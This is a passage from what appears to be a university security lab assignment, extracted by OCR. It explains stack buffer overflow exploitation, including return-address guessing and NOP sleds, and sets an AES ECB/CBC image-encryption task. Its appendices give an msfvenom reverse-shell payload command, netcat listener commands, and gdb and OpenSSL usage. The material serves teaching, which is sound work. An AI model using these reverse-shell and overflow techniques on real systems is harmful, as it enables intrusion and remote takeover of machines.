theshellcode is stored. To answer these questions, we need to understand the stack layout the execution enters a function. The following figure gives an example. str (a pointer to a string) Return Address Previous Frame Pointer (FP) buffer[0] … buffer[11] variable_a void func (char *str) { char buffer[12]; int variable_a; strcpy (buffer, str); } Int main() { char *str = “I am greater than 12 bytes”; func (str); } C u rr e n t F ra m e Current FP (a) A code example (b) Active Stack Frame in func() High Address Low Address Finding the address of the memory that stores the return address. From the figure, we know, if we can find out the address of buffer[] array, we can calculate where the return address is stored. Since the vulnerable program is a Set-UID program, you can make a copy of this program, and run it with your own privilege; this way you can debug the program (note that you cannot debug a Set-UID program). In the debugger, you can figure out the address of buffer[], and thus calculate the starting point of the malicious code. You can even modify the copied program, and ask the program to directly print out the address of buffer[]. The address of buffer[] may be slightly different when you run the Set-UID copy, instead of of your copy, but you should be quite close. If the target program is running remotely, and youmay not be able to rely on the debugger to find out the address. However, you can always guess. The following facts make guessinga quite feasible approach: • Stack usually starts at the same address. • Stack is usually not very deep: most programs do not push more than a few hundred or a few thousand bytes into the stack at any one time. • Therefore the range of addresses that we need to guess is actually quite small. Finding the starting point of the malicious code. If you can accurately calculate the address of buffer[], you should be able to accurately calculate the starting point of the malicious code. Even if you cannot accu- rately calculate the address (for example, for remote programs), you can still guess. To improve the chance of success, we can add a number of NOPs to the beginning of the malicious code; therefore, if we can jump to any of these NOPs, we can eventually get to the malicious code. The following figuredepicts the attack. 8 buffer [0] …… buffer [11] Previous FP Return Address str Malicious Code buffer [0] …… buffer [11] Previous FP Return Address str Malicious Code NOP NOP NOP …… (many NOP’s) (a) Jump to the malicious code (b) Improve the chance S ta c k ’s g ro w in g d ir e c ti o n Storing an long integer in a buffer: In your exploit program, you might need to store an long integer (4 bytes) into an buffer starting at buffer[i]. Since each buffer space is one byte long, the integer will actually occupy four bytes starting at buffer[i] (i.e., buffer[i] to buffer[i+3]). Because buffer and long are of different types, you cannot directly assign the integer to buffer; instead you can cast thebuffer+i into an long pointer, and then assign the integer. The following code shows how to assign an long integer to a buffer starting at buffer[i]: char buffer[20]; long addr = 0xFFEEDD88; long *ptr = (long *) (buffer + i); *ptr = addr; 4 Proper Usage of Symmetric Encryption [30 Marks] In this task, we will play with an encryption algorithm on different modes. The provided file pic original.bmp contains a simple picture. We would like to encrypt this picture, so people without the encryption keys can- not know what is in the picture. Please encrypt the file using the AES ECB (Electronic Code Book) and AES CBC (Cipher Block Chaining) modes, and then do the following: Note: for the first task, you can go either option 1 or option 2. But option 2 will allow you to obtain the full marks of this question. 1. Option 1 (5 Marks): You can use the following openssl enc command to encrypt/decrypt the image file. To see the manuals, you can type man openssl and man enc. % openssl encciphertype -e -in pic_original.bmp -out cipher.bin \ -K 00112233445566778889aabbccddeeff \ -iv 0102030405060708 Please replace the ciphertypewith a specific cipher type, such as -aes-128-cbc and -aes-128-ecb. In this task, you should try AES ECB and AES CBC modes using your student id as the en- cryption keyfor encryption. You can find the meaning of the command-line options and all the 9 supported cipher types by typing ‘‘man enc’’ (check the supported cipherssection). We include some common options for the openssl enc command in the following: -in input file -out output file -e encrypt -d decrypt -K/-iv key/iv in hex is the next argument -[pP] print the iv/key (then exit if -P) Please attach the sceenshot of the terminal. [Marking scheme: 5 marks for the screenshot] 2. Option 2 (30 Marks): Write a C program by using OpenSSL library to encrypt the image in AES ECB and AES CBC mode respectively. You are required to use your student id as the encryption key for encryption. You may refer to the sample code given in Appendix 5.4. Header files “openssl/conf.h, openssl/evp.h, openssl/err.h” will be used for calling related OpenSSL functions. Using the following command line to compile your program (assuming that your program is image encryption.c and your executable file is named as image encryption): $ gcc -I /usr/local/ssl/include -L /usr/local/ssl/lib -o \ image_encryption image_encryption.c -lcrypto -ldl Some references for coding: how-to-do-encryption-using-aes-in-openssl Let us treat the encrypted picture as a picture, and use a picture viewing software to display it. How- ever, For the .bmp file, the first 54 bytes contain the header information about the picture, we have to set it correctly, so the encrypted file can be treated as a legitimate .bmp file. We will replace the header of the encrypted picture with that of the original picture. You can use the ghex tool (on the desktop of SEED-VM) to directly modifybinary files. Provide your video demonstration evidence to support and verify that you have performed the encryption with different AES ECB and CBC modes. You need to upload your demo video to your Monash Google Drive and embed its shared link to your report so that the teaching team can view and verify your works. In the video, you need to demonstrate following key points: • Run the program with different encryption modes and display the encrypted pictures using any picture viewing software. Can you derive any useful information about th
e original picture from the encrypted picture? Please explain your observations(15 marks for your explaination during demonstration video) • Open the source code and explain clearly how you program to generate such results. (10 marks for your coding explaination during demonstration video). Completion: Please put your code and related code comments, and the encrypted pictures to your report. (5 marks) 10 Acknowledgement This assignment are based on the SEED project (Developing Instructional Laboratories for Computer SE- curity EDucation) at the website˜wedu/seed/index.html. 5 Appendix 5.1 Reverse Shell Creation A reverse shell (sometimes is known as a malicious shell) enables the connection from the target machine to the attacker’s machine. In this situation, the attacker’s machine acts as a server. It opens a communication on a port andwaits for incoming connections. The target machine acts as a client connecting to that listener, and then finally the attacker receives the shell. These attacks are dangerous because they give an attacker an interactive shell on the target machine, allowing the attacker to manipulate file system/data. In this assignment, we use msfvenom module in Metasploit to generate the reverse shellcode. Metas- ploit is one of the most powerful and widely used tools for exploring/testing the vulnerability of computer systems or to break into remote systems. You first install Metasploit by openning a terminal and entering the following command. Note that the command is one-line command without line breaks. curl master/config/templates/metasploit-framework-wrappers/ msfupdate.erb > msfinstall && chmod 755 msfinstall && ./msfinstall To see msfvenom help, you can use msfvenom -h . To generate a reverse shell, you can use the following command. You should wait few seconds to obtain the reverse shellcode. msfvenom -p linux/x86/shell_reverse_tcp LHOST= LPORT=4444 -f c where -p is a payload type (in this case it’s for 32-bit Linux reverse shell binary), LHOST is your SEED machine’s IP address (assuming you’re the attacker), LPORT is the port where the attacker is listening, and -f is a format (c in thiscase). 5.2 Netcat Listener In this assignment, we use Netcat to simulate the attacker’s listener. Fortunately, Netcat is already installed in SEEDVM. It’s a versatile tool that has been dubbed the Hackers’ Swiss Army Knife. It’s the most basic feature is to read and write to TCP and UDP ports. Therfore, it enables Netcat can be run as a client or a server. To see Netcat help, you can type nc -h in terminal. If you want to connect to a webserver ( on port 80, you can type nc -nv 80 And if you want your computer to listen on port 80, you can type nc -lvp 80 11 5.3 GNU Debugger The GNU debugger gdb is a very powerful tool that is extremely useful all around computer science, and MIGHT be useful for this task. A basic gdb workflow begins with loading the executable in the debugger: gdb executable You can then start running the problem with: $ run [arguments-to-the-executable] (Note, here we have changed gdbO˜s default prompt of (gdb) to $). In order to stop the execution at a specific line, set a breakpoint before issuing the “run” command. When execution halts at that line, you can then execute step-wise (commands next and step) or continue (command continue) until the next breakpoint or the program terminates. $ break line-number or function-name $ run [arguments-to-the-executable] $ step # branch into function calls $ next # step over function calls $ continue # execute until next breakpoint or program termination Once execution stops, you will find it useful to look at the stack backtrace and the layout of the current stack frame: $ backtrace $ info frame 0 $ info registers Youcan navigate between stack frames using the up and down commands. To inspectmemory at a particular location, you can use the x/FMT command $ x/16 $esp $ x/32i 0xdeadbeef $ x/64s &buf where the FMT suffix after the slash indicates the output format. Other helpful commands are disassemble and info symbol. You can get a short description of each command via $ help command In addition, Neo left a concise summary of all gdb commands at: You may find it very helpful to dumpthe memory image (O`coreO´) of a program that crashes. The core captures the process state at the time of the crash, providing a snapshot of the virtual address space, stack frames, etc., at that time. You can activate core dumping with the shell command: % ulimit -c unlimited A crashing program then leaves a file core in the current directory, which you can then hand to the debugger together with the executable: 12 gdb executable core $ bt # same asbacktrace $ up # move up the call stack $ i f 1 # same as “info frame 1” $ … Lastly, here is how you step into a second program bar that is launched by a first program foo: gdb -e foo -s bar # load executable foo and symbol table of bar $ set follow-fork-mode child # enable debugging across programs $ b bar:f # breakpoint at function f in program bar $ r # run foo and break at f in bar 5.4 AES Encryption Function Sample Code The AES encryption function will take as parameters the plaintext, the length of the plaintext, the key to be used, and the IV. We will also take in a buffer to put the ciphertext in (which we assume to be long enough), and will return the length of the ciphertext that we have written. Encrypting consists of the following stages: (1) Setting up a context (2) Initialising the encryption operation (3) Providing plaintext bytes to be encrypted (4) Finalising the encryption operation. During initialisation,we need to provide an EVP CIPHER object. In this example, we are using EVP aes 128 cbc(), which uses the AES algorithm with a 128-bit key in CBC mode. int encrypt(unsigned char *plaintext, int plaintext_len, unsigned char *key, unsigned char *iv, unsigned char*ciphertext) { EVP_CIPHER_CTX *ctx; int len; int ciphertext_len; /* Create and initialise the context */ if(!(ctx = EVP_CIPHER_CTX_new())) handleErrors(); /* Initialise the encryption operation. IMPORTANT – ensure you use a key * and IV size appropriate for your cipher */ if(1 != EVP_EncryptInit_ex(ctx, EVP_aes_128_cbc(),NULL, key, iv)) handleErrors(); /* Provide the message to be encrypted, and obtain the encrypted output. * EVP_EncryptUpdate can be called multiple times if necessary */ if(1 != EVP_EncryptUpdate(ctx, ciphertext, &len, plaintext, plaintext_len)) handleErrors(); ciphertext_len = len; 13 /* Finalise the encryption. Further ciphertext bytes may be written at * this stage. */ if(1 != EVP_EncryptFinal_ex(ctx, ciphertext + len, &len)) handleErrors(); ciphertext_len += len; /* Clean up */ EVP_CIPHER_CTX_free(ctx); return ciphertext_len; } Also, the code skeleton is given for image encryption. Note: if you stick to the following steps, your program will directly output the encrypted image which can be viewed by any image viewer. Alternatively, you may encrypt the entire image file and use ghex tool as suggested in the step of Question 2 to replace the header of the original image header for image preview. #include #include #include #include #include #include void handleErrors() { printf(“Wrong encryption progress\n”); } int encrypt(unsigned char *plaintext, int plaintext_len, unsigned char *key, unsigned char *iv, unsigned char *ciphertext) { // implement the encryption function based on the above example } int main(int argc, char **argv) { char * fileName=”pic_original.bmp”; //=== STEP 0===// /* Key initialization. It will be automaticalled padded to 128 bit key */ //=== STEP 1===// /* IV initialization. The IV size for *most* modes is the same as the block size. 14 * For AES128 this is 128 bits */ //=== STEP2===// //read the file from given filename in binary mode printf(“Start to read the .bmp file \n”); //=
=== STEP 3===// /*allocate memory for bitmapHeader and bitmapImage. then read bytes for these variables */ //allocate memory for the final ciphertext /* as this is a .bmp file we read the header,the first 54 bytes, into bitmapHeader*/ //read the bitmap image content until the end of the .bmp file//=== STEP 4===// // encrypt the bitmapImage with the given studentId key //=== STEP 5===// /*merge header and bitmap to the final ciphertext and output it into a .bmpfile*/ return 1; } 15


Author admin

More posts by admin